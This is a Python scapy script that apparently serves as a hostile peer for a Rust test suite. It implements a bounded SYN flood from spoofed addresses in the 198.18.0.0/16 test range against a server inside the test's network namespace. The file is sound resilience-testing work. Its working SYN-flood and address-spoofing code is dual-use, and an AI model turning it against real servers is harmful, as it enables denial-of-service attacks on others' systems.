#!/usr/bin/python3
"""Hostile and broken peers for tests/tests/hostile.rs, made with scapy.

Run with Debian's python3 (python3-scapy) inside the test's clients'
namespace:

    hostile.py ATTACK IFACE DST PORT [ARGS...]

IFACE is the clients' end of the link, DST:PORT the server. Every
attack sends a bounded number of frames, only on IFACE, from addresses
inside 198.18.0.0/16 (the test's link), and prints one line:
`sent N` (the frames it sent).

Attacks:
  synflood COUNT   COUNT SYNs, each from a different spoofed on-link
                   address (198.18.1.0 on) and port, none of which will
                   ever answer the SYN-ACK.
"""
import ipaddress
import sys

from scapy.all import IP, TCP, Ether, conf, getmacbyip, sendp

conf.verb = 0


def spoofed(i):
    """The i-th spoofed address: 198.18.1.0 + i (on-link in the /16)."""
    return str(ipaddress.IPv4Address("198.18.1.0") + i)


def synflood(iface, dst, port, args):
    count = int(args[0])
    mac = getmacbyip(dst)
    if mac is None:
        sys.exit(f"no ARP answer from {dst}")
    frames = [
        Ether(dst=mac)
        / IP(src=spoofed(i), dst=dst)
        / TCP(sport=10000 + i % 50000, dport=port, flags="S", seq=1000 * i, options=[("MSS", 1460)])
        for i in range(count)
    ]
    sendp(frames, iface=iface)
    return len(frames)


ATTACKS = {"synflood": synflood}


def main():
    if len(sys.argv) < 5 or sys.argv[1] not in ATTACKS:
        sys.exit(__doc__)
    attack, iface, dst, port = sys.argv[1], sys.argv[2], sys.argv[3], int(sys.argv[4])
    n = ATTACKS[attack](iface, dst, port, sys.argv[5:])
    print(f"sent {n}")


if __name__ == "__main__":
    main()
